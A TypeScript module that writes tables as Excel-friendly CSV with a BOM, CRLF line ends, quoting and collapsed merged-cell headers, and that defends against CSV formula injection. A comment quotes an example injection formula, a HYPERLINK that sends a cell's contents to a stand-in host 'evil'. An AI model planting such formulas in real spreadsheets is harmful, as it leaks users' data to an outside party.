import { layoutTable, type Table } from "./document";

/**
 * CSV for Excel and WPS as a Chinese office uses them: UTF-8 with a BOM (without it Excel reads
 * the file as GBK and the hanzi turn to mojibake), CRLF line ends, RFC 4180 quoting.
 */
export const CSV_BOM = "\uFEFF";

/** Numbers a spreadsheet should still see as numbers, a leading minus included. */
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;

/**
 * OWASP CSV injection: a spreadsheet runs a cell that starts with = + - @ (or tab / CR, which
 * some strip before looking) as a formula, e.g. =HYPERLINK("http://evil/?"&A1). The leading '
 * makes it text. Plain negative numbers are left alone: they cannot call anything.
 */
export function neutraliseCell(value: string): string {
  if (PLAIN_NUMBER.test(value)) return value;
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

function quote(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** Rows of cells to CSV text, BOM first, every line (the last too) ending in CRLF. */
export function toCsv(rows: readonly (readonly string[])[]): string {
  return CSV_BOM + rows.map((row) => row.map((cell) => quote(neutraliseCell(cell))).join(",") + "\r\n").join("");
}

/**
 * A table block as CSV. The header rows collapse into one line so that each column has a label:
 * the labels stacked above a column are joined with "/" (法人或其他组织/商业企业), a label that
 * spans rows appears once. In the body a merged cell's text stays in its first column and the
 * columns it covers are empty, so sums over a column count each figure once.
 */
export function tableToCsv(table: Table): string {
  const grid = layoutTable(table);
  const headerRows = Math.min(table.headerRows ?? 0, table.rows.length);
  const rows: string[][] = [];
  if (headerRows > 0) rows.push(headerLine(grid.owner.slice(0, headerRows), grid.columns));
  for (let r = headerRows; r < table.rows.length; r++) {
    rows.push(Array.from({ length: grid.columns }, (_, c) => {
      const p = grid.owner[r][c];
      return p && p.row === r && p.column === c ? p.cell.text : "";
    }));
  }
  return toCsv(rows);
}

function headerLine(owners: ReturnType<typeof layoutTable>["owner"], columns: number): string[] {
  return Array.from({ length: columns }, (_, c) => {
    const labels: string[] = [];
    for (const row of owners) {
      const text = row[c]?.cell.text.trim();
      if (text && labels[labels.length - 1] !== text) labels.push(text);
    }
    return labels.join("/");
  });
}
